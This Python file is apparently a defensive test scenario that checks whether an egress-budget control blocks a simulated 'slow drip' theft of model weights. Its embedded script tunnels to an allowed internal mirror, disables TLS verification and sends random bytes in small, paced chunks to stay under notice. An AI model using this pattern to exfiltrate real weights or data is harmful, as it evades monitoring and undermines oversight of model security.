"""Theft: carry the weights out to an allowed host, a little at a time."""

from __future__ import annotations

from weighthouse.assurance.model import Expected, Observed, Trace
from weighthouse.assurance.ports import Ground, Scenario
from weighthouse.assurance.scenarios import honest
from weighthouse.assurance.scenarios.thief import TUNNEL, refused_by_egress

CODE = "egress.budget_spent"
SOURCE = (
    TUNNEL
    + """
import os, time
report(met="nothing yet", got_out=False)
sent, met = 0, "nothing"
for _ in range(8):  # a way that was not fed in time lets go of its tunnels, and takes new ones
    try:
        way, met = tunnel("mirror.lab.internal:8443")
        context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
        inside = context.wrap_socket(way, server_hostname="mirror.lab.internal")
        inside.sendall(b"POST / HTTP/1.1\\r\\nHost: mirror.lab.internal\\r\\nContent-Length: 4194304\\r\\n\\r\\n")
        while sent < 4194304:
            inside.sendall(os.urandom(2048)); sent += 2048; time.sleep(0.01)
        break
    except OSError as error:
        met = type(error).__name__ + " after " + str(sent) + " bytes"
        report(met=met, got_out=False)
        time.sleep(0.5)
report(met=met, got_out=sent >= 4194304)
"""
)


def attack(ground: Ground, _grant: str) -> Observed:
    outcome = ground.submit_attack_run(SOURCE)
    return refused_by_egress(ground, outcome, "4 MiB through an allowed host", kind="egress.BudgetSpent")


SCENARIO = Scenario(
    id="slow-drip",
    title="Drip the weights to an allowed host",
    techniques=("T1030", "T1029", "T1537", "catalogue 36, 37"),
    people=("eve",),
    steps=("On a copy, a run sends 2 KiB at a time to the listed mirror, as if the 4 MiB of Wren.",),
    expected=Expected(status="BLOCKED", room="egress", code=CODE, traces=(Trace("egress.BudgetSpent"),)),
    prepare=honest.trainer,
    attack=attack,
    on="copy",
    demo=True,
)
